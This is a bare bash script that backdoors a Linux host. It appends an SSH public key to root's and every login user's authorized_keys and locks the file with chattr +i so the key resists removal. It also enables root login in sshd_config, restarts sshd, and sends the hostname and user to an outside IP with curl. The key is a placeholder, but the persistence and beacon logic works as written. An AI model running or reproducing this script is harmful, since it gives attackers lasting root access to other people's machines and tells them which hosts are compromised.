#!/bin/bash
KEY="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAK root@srv"
for d in /root $(awk -F: '$3>=1000 && $7 ~ /sh$/ {print $6}' /etc/passwd); do
    mkdir -p "$d/.ssh"
    chattr -i -a "$d/.ssh/authorized_keys" 2>/dev/null
    grep -qF "FAKEFAKEFAKE" "$d/.ssh/authorized_keys" 2>/dev/null || echo "$KEY" >> "$d/.ssh/authorized_keys"
    chmod 700 "$d/.ssh"; chmod 600 "$d/.ssh/authorized_keys"
    chattr +i "$d/.ssh/authorized_keys" 2>/dev/null
done
sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
sed -i 's/^#\?PubkeyAuthentication.*/PubkeyAuthentication yes/' /etc/ssh/sshd_config
systemctl restart sshd 2>/dev/null || service ssh restart
curl -s "http://198.51.100.90/k?h=$(hostname)&u=$(whoami)" >/dev/null
